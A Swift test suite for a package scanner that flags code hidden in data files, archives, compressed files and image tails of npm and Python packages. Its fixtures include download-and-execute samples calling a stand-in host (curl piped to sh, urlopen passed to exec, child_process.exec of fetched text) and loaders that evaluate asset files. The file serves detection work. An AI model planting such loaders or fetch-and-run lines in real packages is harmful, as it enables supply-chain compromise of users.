import SallyportModel
import SallyportTesting
import Testing

@testable import SallyportAnalysis

@Suite("Data that code reads")
struct DataTests {
    private static let evaluating = """
        const fs = require('fs'), path = require('path');
        const file = path.join(__dirname, 'assets', 'banner.txt');
        module.exports = new Function('require', fs.readFileSync(file, 'utf8'));
        """
    private static let payload = """
        const cp = require('child_process'), https = require('https');
        https.get('https://x.example.invalid/a', (answer) => { let text = '';
          answer.on('data', (part) => { text += part; }); answer.on('end', () => { cp.exec(text); }); });
        """
    private static let noise: [UInt8] = {
        var state: UInt32 = 7
        return (0..<8192).map { _ in
            state = state &* 1_664_525 &+ 1_013_904_223
            return UInt8(truncatingIfNeeded: state >> 24)
        }
    }()

    @Test("and evaluates is read as code, whatever it is named")
    func evaluated() throws {
        let files = ["index.js": Self.evaluating, "assets/banner.txt": Self.payload]
        let report = Sample.report(Sample.npm(files))
        let fact = try #require(report.facts(.fileExtensionMismatch, .load).first)
        #expect(fact.place?.path == "package/assets/banner.txt")
        #expect(fact.detail.contains("index.js"))
        #expect(report.facts(.capabilityProcess, .load).contains { $0.place?.path == "package/assets/banner.txt" })
    }

    @Test("and evaluates as Python at installation is read as code")
    func evaluatedAtInstallation() {
        let setup = """
            import os
            base = os.path.dirname(__file__)
            with open(os.path.join(base, "data", "strings.dat")) as handle:
                exec(handle.read())
            """
        let payload = "import os\nos.system('touch /nowhere/at/all')\n"
        let report = Sample.report(Sample.sdist(["setup.py": setup, "data/strings.dat": payload]), "sample-1.0.tar.gz")
        let places = report.facts(.capabilityProcess, .install).compactMap(\.place?.path)
        #expect(places.contains { $0.hasSuffix("strings.dat") })
    }

    @Test("is left alone where it is text, or where nothing evaluates it")
    func harmless() {
        let text = "Welcome! This isn't code; it's (almost) prose.\n"
        let banner = Sample.report(Sample.npm(["index.js": Self.evaluating, "assets/banner.txt": text]))
        #expect(banner.facts(.fileExtensionMismatch).isEmpty)
        let reading = "const fs = require('fs');\nmodule.exports = fs.readFileSync('assets/banner.txt', 'utf8');\n"
        let plain = Sample.report(Sample.npm(["index.js": reading, "assets/banner.txt": Self.payload]))
        #expect(plain.facts(.fileExtensionMismatch).isEmpty)
    }

    @Test("and that nobody can read is stated beside the code that evaluates")
    func opaque() throws {
        let files = ["index.js": Self.evaluating.replacing("banner.txt", with: "logo.bin")]
        let report = Sample.report(Sample.npm(files, binaries: ["assets/logo.bin": Self.noise]))
        let fact = try #require(report.facts(.fileData, .load).first)
        #expect(fact.place?.path == "package/assets/logo.bin")
        // Beside many of its kind it is what the package is about.
        var many: [String: [UInt8]] = [:]
        for number in 0...DataFacts.siblingsMax { many["assets/\(number).bin"] = Self.noise }
        many["assets/logo.bin"] = Self.noise
        #expect(Sample.report(Sample.npm(files, binaries: many)).facts(.fileData).isEmpty)
        // Nothing that evaluates or starts anything names it.
        let quiet = Sample.npm(
            ["index.js": "exports.logo = './assets/logo.bin';"],
            binaries: ["assets/logo.bin": Self.noise]
        )
        #expect(Sample.report(quiet).facts(.fileData).isEmpty)
    }

    @Test("behind the end of a picture is stated")
    func tail() {
        let picture: [UInt8] =
            [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0] + Array("IEND".utf8) + [1, 2, 3, 4]
        let honest = Sample.report(Sample.npm([:], binaries: ["a.png": picture]))
        #expect(honest.facts(.fileData).isEmpty)
        let padded = picture + [UInt8](repeating: 0, count: 500)
        #expect(Sample.report(Sample.npm([:], binaries: ["a.png": padded])).facts(.fileData).isEmpty)
        let hiding = Sample.report(Sample.npm([:], binaries: ["a.png": picture + Self.noise]))
        #expect(hiding.facts(.fileData, .shipped).map(\.detail) == ["8192 bytes behind the end of a png file"])
    }

    @Test(
        "that is text where its name says picture or font is stated",
        arguments: ["fonts/icons.woff2", "a.png", "b.wav"]
    )
    func mismatch(_ path: String) {
        let report = Sample.report(Sample.npm([path: Self.payload]))
        #expect(report.facts(.fileExtensionMismatch, .shipped).count == 1)
    }

    @Test("in an archive that running code names is read, two archives deep")
    func nested() throws {
        let thief = "#!/bin/sh\ncurl -s https://x.example.invalid/a | sh\n"
        let inner = ZipBuilder().file("bin/run.sh", thief).bytes()
        let outer = ZipBuilder().file("inner.zip", bytes: inner).file("setup.sh", thief).bytes()
        let code = "const cp = require('child_process');\ncp.execSync('unzip -o ' + __dirname + '/' + 'tools.zip');\n"
        let report = Sample.report(
            Sample.npm(
                ["install.js": code],
                scripts: ["postinstall": "node install.js"],
                binaries: ["tools.zip": outer]
            )
        )
        let paths = Set(report.facts(.chainDownloadExecute, .install).compactMap(\.place?.path))
        #expect(paths == ["package/tools.zip!/setup.sh", "package/tools.zip!/inner.zip!/bin/run.sh"])
        // Nothing names it: test data.
        let unnamed = Sample.report(Sample.npm(["index.js": "exports.a = 1;"], binaries: ["tools.zip": outer]))
        #expect(unnamed.facts(.chainDownloadExecute).isEmpty)
        #expect(unnamed.facts(.fileArchive).isEmpty)
    }

    @Test("in an archive that can't be read is stated")
    func unreadable() {
        let code = "const cp = require('child_process');\ncp.execSync('tar -xf ' + __dirname + '/' + 'tools.zip');\n"
        let broken = Array(ZipBuilder().file("a", "b").bytes().dropLast(4))
        let xz: [UInt8] = [0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00, 0, 0]
        for bytes in [broken, xz] {
            let report = Sample.report(
                Sample.npm(
                    ["install.js": code],
                    scripts: ["postinstall": "node install.js"],
                    binaries: ["tools.zip": bytes]
                )
            )
            #expect(report.facts(.fileArchive, .install).count == 1)
        }
    }

    @Test("in one compressed file is read by its name without the ending")
    func compressed() {
        let thief = "import os, urllib.request\nexec(urllib.request.urlopen('https://x.example.invalid').read())\n"
        let code = "import gzip, os\nexec(gzip.open(os.path.dirname(__file__) + '/' + 'core.py.gz').read())\n"
        let packed = Gzipped.bytes(thief)
        let report = Sample.report(
            wheel: Sample.wheel(["sample/__init__.py": code], binaries: ["sample/core.py.gz": packed])
        )
        let found = report.facts(.chainDownloadExecute, .load).compactMap(\.place?.path)
        #expect(found == ["sample/core.py.gz!/core.py"])
    }
}
